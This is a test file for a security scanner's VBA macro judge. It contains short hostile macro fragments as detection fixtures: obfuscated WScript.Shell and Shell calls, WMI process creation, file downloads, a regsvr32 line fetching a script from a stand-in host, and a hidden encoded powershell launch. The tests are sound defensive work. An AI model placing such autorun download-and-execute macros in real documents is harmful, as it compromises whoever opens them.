from __future__ import annotations

import time

import pytest
from support.office import macro_document, macro_file, paragraph, run, word
from support.opened_file import found, opened

from sekisho.parse.unpack.office.ooxml import open_ooxml
from sekisho.parse.unpack.office.vba_judge import judge, plain

AUTO = "Sub AutoOpen()\r\n{}\r\nEnd Sub\r\n"

HARMLESS = {
    "formats sheets": """Private Sub Workbook_Open()
    Application.ScreenUpdating = False
    Worksheets("入力").Range("A1").Interior.ColorIndex = 6
    Worksheets("入力").Protect
    UserForm1.Show
End Sub""",
    "finds the desktop": """Sub Auto_Open()
    Dim p As String
    p = CreateObject("WScript.Shell").SpecialFolders("Desktop")
    MsgBox p & "に保存します"
End Sub""",
    "opens a folder": """Private Sub Workbook_Open()
    Shell "C:\\Windows\\explorer.exe " & ThisWorkbook.Path, vbNormalFocus
End Sub""",
    "asks a database": """Private Sub Workbook_Open()
    Set cn = CreateObject("ADODB.Connection")
    cn.Open "Provider=SQLOLEDB;Data Source=srv"
End Sub""",
    "runs a program only by a button": """Private Sub Workbook_Open()
    Sheets(1).Activate
End Sub
Private Sub CommandButton1_Click()
    Shell "cmd /c copy a b"
    URLDownloadToFile 0, "http://intra/a", "b", 0, 0
End Sub""",
    "declares what it does not use": """Private Declare PtrSafe Function URLDownloadToFile Lib "urlmon" Alias _
    "URLDownloadToFileA" (ByVal a As Long) As Long
Private Declare Function ShellExecute Lib "shell32.dll" Alias "ShellExecuteA" (ByVal h As Long) As Long
Private Sub Workbook_Open()
    Range("A1").Select
End Sub""",
    "says so in comments": """Private Sub Workbook_Open()
    ' Shell "powershell -enc" was removed
    Rem WScript.Shell .Run
End Sub""",
    "asks for rates": """Private Sub Workbook_Open()
    Set h = CreateObject("MSXML2.XMLHTTP")
    h.Open "GET", "https://rates.example/today", False
    h.Send
    Range("B2").Value = h.responseText
End Sub""",
}

DANGEROUS = {
    "Shell": 'Shell "cmd /c calc"',
    "hidden Shell": 'Shell Chr(99) & Chr(109) & Chr(100) & " /c calc"',
    "the script host": 'Set s = CreateObject("WScript.Shell")\r\n s.Run "x.exe"',
    "in halves": 'CreateObject("WScri" & "pt.Shell").Run x',
    "backwards": 'CreateObject(StrReverse("llehS.tpircSW")).Run x',
    "WMI": 'GetObject("winmgmts:").Get("Win32_Process").Create c',
    "download": "URLDownloadToFile 0, u, f, 0, 0",
    "download by hand": 'Set h = CreateObject("MSXML2.XMLHTTP")\r\n CreateObject("ADODB.Stream").SaveToFile f',
    "a tool": 'x = "regsvr32 /s /u /i:http://e.example/a scrobj.dll"',
    "over lines": 'CreateObject("WScript.Shell"). _\r\n Run x',
    "by another procedure": "Go\r\nEnd Sub\r\nSub Go()\r\n Shell p",
    "by name": 'Application.Run "G" & "o"\r\nEnd Sub\r\nSub Go()\r\n Shell p',
}  # fmt: skip


@pytest.mark.parametrize("source", HARMLESS.values(), ids=HARMLESS.keys())
def test_business_macros_stay_medium(source):
    judged = judge(source)
    assert (judged.rule, judged.severity.word) == ("attachment/macro-autorun", "medium"), judged.why


@pytest.mark.parametrize("body", DANGEROUS.values(), ids=DANGEROUS.keys())
def test_dangerous_macros_that_start_by_themselves(body):
    judged = judge(AUTO.format(body))
    assert judged.rule == "attachment/macro-dangerous", judged.why
    assert judged.severity.word in {"high", "critical"}


@pytest.mark.parametrize("body", DANGEROUS.values(), ids=DANGEROUS.keys())
def test_the_same_without_autorun_is_not_high(body):
    assert judge(AUTO.format(body).replace("AutoOpen", "Start")).severity.word in {"low", "medium"}


def test_certain_harm_is_critical():
    body = 'Shell "powershell -w hidden -enc SQBFAFgA"'
    assert judge(AUTO.format(body)).severity.word == "critical"


@pytest.mark.parametrize("name", ["Document_Open", "workbook_open", "AUTOEXEC", "Auto_Close", "Document_Close"])
def test_names_that_start_by_themselves(name):
    assert judge(f"Private Sub {name}()\nRange(1).Select\nEnd Sub").rule == "attachment/macro-autorun"


def test_an_ordinary_macro():
    judged = judge("Sub 集計()\n Range(1).Select\nEnd Sub")
    assert (judged.rule, judged.severity.word) == ("attachment/macro", "low")


def test_what_a_form_keeps_counts():
    assert judge(AUTO.format("x = UserForm1.Label1.Caption"), "powershell -nop").rule == "attachment/macro-dangerous"


def test_disguises_undone():
    assert plain('x = Chr(104) & ChrW(&H69) & "!" \' c') == 'x = "hi!" \' c'
    assert plain('StrReverse("dmc")') == '"cmd"'


def test_path_and_text_of_a_macro():
    opening = opened(open_ooxml, macro_document(AUTO.format('Shell "x"')), "a.docm")
    (finding,) = [f for f in opening.findings if f.rule == "attachment/macro-dangerous"]
    assert finding.path == "a.docm/macro"
    assert any(text.place == "macro" and "Sub AutoOpen" in text.text for text in opening.texts)


def test_source_taken_away():
    binary = macro_file(
        'Attribute VB_Name = "T"\r\n', cached=b"\0" * 5000 + b"WScript.Shell\0.Run\0powershell -enc\0"
    )
    content = word(paragraph(run("x")), ("m", "vbaProject", "vbaProject.bin"), vbaProject__bin=binary)
    assert found(opened(open_ooxml, content))["macro-stomped"] == "high"


@pytest.mark.parametrize(
    "bait",
    ["Shell ", "Chr(65)&", '"a" & ', "StrReverse(", "Sub A()\n", "  ' x\n", " _\n", "powershell ", "1, ", "a" * 90],
)
def test_long_sources_take_bounded_time(bait):
    started = time.process_time()
    judge("Sub AutoOpen()\n" + bait * (300_000 // len(bait)))
    assert time.process_time() - started < 10  # minutes if something is quadratic


def test_a_project_of_empty_modules_is_no_finding():
    source = 'Attribute VB_Name = "Sheet1"\r\nOption Explicit\r\n'
    assert found(opened(open_ooxml, macro_document(source))) == {}


def test_code_outside_of_procedures():
    assert judge("Dim a\nDim b").rule == "attachment/macro"
